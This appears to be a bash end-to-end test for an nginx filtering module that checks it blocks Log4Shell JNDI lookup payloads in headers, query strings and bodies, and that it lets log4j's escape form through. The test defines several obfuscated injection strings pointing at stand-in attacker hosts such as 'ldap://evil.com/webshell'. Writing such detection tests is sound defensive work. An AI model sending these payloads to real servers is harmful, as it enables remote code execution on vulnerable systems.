#!/usr/bin/env bash
# nginx_message.sh -- the module judges what log4j 2.14.1 would do with the
# contiguous text of a field, through the library (issue 9): a "$" a lookup
# returns joins the next "{" (the OWASP CRS 944150 inputs), an encoded "${"
# spliced into a literal payload does not hide it, and "$" + "${" -- an
# escape in log4j, no lookup -- is not blocked.  Block mode, header, query
# and body.
. "$DEFUSE_SRC/nginx/e2e_lib.bash"
ngx_init
ngx_conf '
    server {
        listen 127.0.0.1:@PORT@;
        defuse on;
        defuse_mode block;
        defuse_body on;
        location / { return 200 "OK"; }
    }'
ngx_start || { fail "nginx did not start"; ngx_finish; exit 1; }

CRS1='${:1337:-x$}{jndi:ldap://evil.com/webshell}'
CRS2='$${env:something:-${env:something:-$}{jndi:ldap://evil.com/crs}}}'
REFIRE='${x}${lower:$}{jndi:ldap://evil.example/a}'
SPLICE='${jndi:ldap://evil.example/a%24%7B}'
SPLICE2='${jndi:ldap://evil.example/a\u0024\u007b}'
ESCAPED='${lower:$}${jndi:ldap://evil.example/a}'

expect 200 "benign request" "/?q=hello" -A "Mozilla/5.0"
expect 403 "CRS 944150 re-fire in User-Agent" / -A "$CRS1"
expect 403 "CRS 944150 nested re-fire in User-Agent" / -A "$CRS2"
expect 403 "\${lower:\$}{jndi:...} after \${x} in a header" / -H "X-Api-Version: $REFIRE"
expect 403 "encoded \${ spliced into a literal payload (header)" / -H "X-Api-Version: $SPLICE"
expect 403 "\\u-encoded \${ spliced into a literal payload (header)" / -H "X-Api-Version: $SPLICE2"
expect 403 "re-fire in a form body" / --data-binary "q=$CRS1" -H "Content-Type: text/plain"
expect 403 "splice in a form body" / --data-binary "q=$SPLICE" -H "Content-Type: text/plain"
expect 200 "\$ + \${ is log4j's escape: no lookup, not blocked" / -A "$ESCAPED"
grep -qF 'evil[.]com/webshell' "$T/logs/error.log" && pass "the CRS callback is named (defanged) in the error log" \
    || fail "the CRS callback is not in the error log"
ngx_stop
ngx_check_errors
ngx_finish
